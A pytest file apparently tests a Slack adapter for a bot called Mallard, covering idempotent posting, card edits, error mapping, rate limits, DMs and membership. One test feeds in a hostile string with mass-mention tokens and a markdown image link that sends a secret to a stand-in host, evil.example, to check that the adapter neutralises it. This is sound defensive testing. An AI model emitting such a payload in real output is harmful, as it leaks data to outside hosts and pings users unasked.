"""What Mallard says: posted once, found again, changed however old, and never a ping."""

from datetime import timedelta

import pytest

from bots.slack import SlackPlatform
from runtime.contents import Content, Entry, File, Page, Text
from runtime.errors import PlatformError, PlatformRefused, PlatformUnavailable, PlatformUnclear
from runtime.records import ConversationRef, MessageRef, UserRef
from tests.fakes.slack import Channel, Slack
from tests.platforms.on_slack.conftest import LoopbackClock, started
from tests.platforms.recording import RecordingDoor
from tests.platforms.samples import card, decided


@pytest.fixture
def pond(slack: Slack) -> Channel:
    return slack.channel("pond", members=[slack.person("UALICE")])


@pytest.fixture
async def where(slack: Slack, pond: Channel) -> ConversationRef:
    asked = await slack.person("UALICE").says(pond, "hello")
    return ConversationRef(platform="slack", space="T1", channel=pond.id, thread=asked.ts)


CONTENTS: tuple[Content, ...] = (
    Text(markdown="# Hello\n\nThe **pond** is `large`."),
    card(),
    decided(),
    Page(title="History", entries=(Entry(text="run 1 <done>", detail="by & by", token="t1"),), older="t2"),
    File(name="answer.md", text="very long", comment="The whole of it"),
)


@pytest.mark.parametrize("content", CONTENTS, ids=lambda content: type(content).__name__)
async def test_every_content_stands_in_the_thread_and_is_found_by_its_key(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel, content: Content
) -> None:
    since = LoopbackClock(slack).now()

    posted = await platform.post(where, content, key="delivery-1")

    stands = next(message for message in slack.messages(pond) if message.ts == posted.id)
    assert stands.thread_ts == where.thread
    assert await platform.find_posted(where, "delivery-1", since) == posted
    assert await platform.find_posted(where, "delivery-2", since) is None


@pytest.mark.promise(28)
@pytest.mark.mistake(17)
@pytest.mark.mistake(18)
async def test_nothing_that_a_model_writes_notifies_anybody_or_loads_anything(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    evil = (
        "<!channel> <!here> <!everyone> <@UALICE> <#C1|pond> <!subteam^S1> @channel @here "
        "<http://evil.example|click> ![leak](http://evil.example/?secret) & < >"
    )
    await platform.post(where, Text(markdown=evil), key="1")
    await platform.post(where, card(title=evil, claim=evil, why_asked=evil, deciders=evil, requested_by=evil), key="2")
    await platform.post(where, Page(title=evil, entries=(Entry(text=evil, detail=evil),), note=evil), key="3")
    await platform.post(where, File(name="a.txt", text=evil, comment=evil), key="4")

    for message in slack.answers(pond):
        assert message.pings == ()
    for call in slack.record.calls_of("chat.postMessage"):
        assert call["unfurl_links"] is False
        assert call["unfurl_media"] is False
        assert "link_names" not in call.arguments
        assert not [block for block in call["blocks"] if block["type"] == "markdown" and "![leak]" in block["text"]]


@pytest.mark.promise(1)
@pytest.mark.mistake(9)
@pytest.mark.mistake(10)
async def test_a_card_is_changed_to_its_closed_form(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    posted = await platform.post(where, card(), key="1")
    stands = slack.answers(pond)[0]
    assert stands.labels == ["Approve", "Always allow", "Deny", "Change…", "Show everything"]

    slack.clock.advance(3600 * 24 * 40)
    await platform.edit(posted, decided())

    assert stands.labels == []
    assert "Approved by bob" in stands.text
    assert stands.metadata == {"event_type": "mallard_message", "event_payload": {"key": "1"}}


async def test_a_card_names_the_person_whom_the_record_knows_by_id_alone(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    await platform.post(where, card(requested_by="slack:T1/UALICE"), key="1")
    await platform.post(where, card(requested_by="slack:T1/UALICE"), key="2")

    assert "asked by alice" in slack.answers(pond)[0].text
    assert len(slack.record.calls_of("users.info")) == 1


async def test_a_name_that_slack_does_not_say_holds_up_no_card(
    slack: Slack, door: RecordingDoor, where: ConversationRef, pond: Channel
) -> None:
    slack.hold("users.info", times=None)
    async with started(slack, door, name_patience=0.05) as platform:
        await platform.post(where, card(requested_by="slack:T1/UALICE"), key="1")

    assert "asked by slack:T1/UALICE" in slack.answers(pond)[0].text
    slack.faults.lift_all()


async def test_a_page_names_people_beside_their_ids_and_leaves_ids_that_are_meant_as_such(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    entries = (Entry(text="approved by slack:T1/UALICE", detail="asked by slack:T1/UALICE"),)
    await platform.post(where, Page(title="Run 1", entries=entries, note="add `slack:T1/UALICE` to it"), key="1")

    shown = slack.answers(pond)[0].text
    assert "approved by alice (UALICE)" in shown
    assert "asked by alice\n" in shown
    assert "`slack:T1/UALICE`" in shown


FAILURES: tuple[tuple[str, type[PlatformError]], ...] = (
    ("channel_not_found", PlatformRefused),
    ("not_in_channel", PlatformRefused),
    ("is_archived", PlatformRefused),
    ("invalid_blocks", PlatformRefused),
    ("ratelimited", PlatformUnavailable),
    ("service_unavailable", PlatformUnavailable),
    ("token_revoked", PlatformUnavailable),
    ("internal_error", PlatformUnclear),
    ("fatal_error", PlatformUnclear),
)


@pytest.mark.promise(9)
@pytest.mark.mistake(25)
@pytest.mark.parametrize(("code", "expected"), FAILURES)
async def test_slacks_refusals_become_the_runtimes_words(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, code: str, expected: type[PlatformError]
) -> None:
    slack.fail("chat.postMessage", code)

    with pytest.raises(expected):
        await platform.post(where, Text(markdown="hello"), key="1")

    assert len(slack.record.calls_of("chat.postMessage")) == 1


@pytest.mark.promise(31)
@pytest.mark.mistake(8)
@pytest.mark.parametrize("trouble", ["dropped", "502", "hanging"])
async def test_a_post_that_slack_processed_without_saying_so_is_unclear_and_is_found_not_repeated(
    slack: Slack, door: RecordingDoor, where: ConversationRef, pond: Channel, trouble: str
) -> None:
    since = LoopbackClock(slack).now()
    match trouble:
        case "dropped":
            slack.drop("chat.postMessage")
        case "502":
            slack.fail("chat.postMessage", status=502, processed=True)
        case _:
            slack.hold("chat.postMessage", processed=True)

    async with started(slack, door, request_timeout=1.0) as platform:
        with pytest.raises(PlatformUnclear):
            await platform.post(where, Text(markdown="once"), key="delivery-1")
        found = await platform.find_posted(where, "delivery-1", since)

    assert [message.text for message in slack.answers(pond)] == ["once"]
    assert found is not None
    assert found.id == slack.answers(pond)[0].ts


@pytest.mark.mistake(21)
async def test_a_rate_limit_says_how_long_and_nobody_waits_for_it(
    slack: Slack, platform: SlackPlatform, where: ConversationRef
) -> None:
    slack.rate_limit("chat.postMessage", retry_after=30)

    with pytest.raises(PlatformUnavailable) as caught:
        await platform.post(where, Text(markdown="hello"), key="1")

    assert caught.value.retry_after == 30


async def test_an_edit_whose_outcome_is_unclear_may_be_done_again(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    posted = await platform.post(where, card(), key="1")
    slack.drop("chat.update")

    with pytest.raises(PlatformUnavailable):
        await platform.edit(posted, decided())
    await platform.edit(posted, decided())

    assert slack.answers(pond)[0].labels == []


@pytest.mark.mistake(25)
async def test_a_message_that_is_gone_is_refused_for_good(
    slack: Slack, platform: SlackPlatform, where: ConversationRef
) -> None:
    gone = MessageRef(where=where, id="1700000000.000001")

    with pytest.raises(PlatformRefused):
        await platform.edit(gone, Text(markdown="hello"))


@pytest.mark.mistake(25)
async def test_looking_for_a_message_where_the_channel_is_gone_finds_nothing(
    slack: Slack, platform: SlackPlatform
) -> None:
    gone = ConversationRef(platform="slack", space="T1", channel="C0GONE", thread="1700000000.000001")

    assert await platform.find_posted(gone, "k", LoopbackClock(slack).now() - timedelta(days=1)) is None


async def test_an_unreachable_slack_posted_nothing(slack: Slack, platform: SlackPlatform) -> None:
    where = ConversationRef(platform="slack", space="T1", channel="C1")
    await slack.stop()

    with pytest.raises(PlatformUnavailable):
        await platform.post(where, Text(markdown="hello"), key="1")


@pytest.mark.mistake(25)
async def test_a_dm_is_opened_once(slack: Slack, platform: SlackPlatform) -> None:
    alice = slack.person("UALICE")
    user = UserRef(platform="slack", space="T1", id="UALICE")
    first = await platform.direct_message(user)
    second = await platform.direct_message(user)

    assert first == second == ConversationRef(platform="slack", space="T1", channel=alice.dm.id)
    assert len(slack.record.calls_of("conversations.open")) == 1


@pytest.mark.mistake(25)
async def test_a_person_who_cannot_be_written_to_is_a_refusal(slack: Slack, platform: SlackPlatform) -> None:
    slack.fail("conversations.open", "cannot_dm_bot")
    with pytest.raises(PlatformRefused):
        await platform.direct_message(UserRef(platform="slack", space="T1", id="UROBOT"))
    with pytest.raises(PlatformRefused):
        await platform.direct_message(UserRef(platform="terminal", id="me"))


@pytest.mark.promise(30)
async def test_members_can_read_and_full_members_can_read_public_channels(
    slack: Slack, platform: SlackPlatform
) -> None:
    alice, far = slack.person("UALICE"), slack.person("UFAR", team="T2")
    slack.person("UBOB")
    public = slack.channel("public", members=[alice])
    secret = slack.channel("secret", members=[alice, far], kind="group")

    async def can_read(person: str, channel: str, space: str = "T1") -> bool:
        where = ConversationRef(platform="slack", space="T1", channel=channel)
        return await platform.is_member(UserRef(platform="slack", space=space, id=person), where)

    assert await can_read("UALICE", public.id)
    assert await can_read("UBOB", public.id)
    assert not await can_read("UFAR", public.id, "T2")
    assert await can_read("UALICE", secret.id)
    assert await can_read("UFAR", secret.id, "T2")
    assert not await can_read("UBOB", secret.id)
    assert await can_read("UALICE", alice.dm.id)
    assert not await can_read("UBOB", alice.dm.id)
    assert not await can_read("UALICE", "C0GONE")
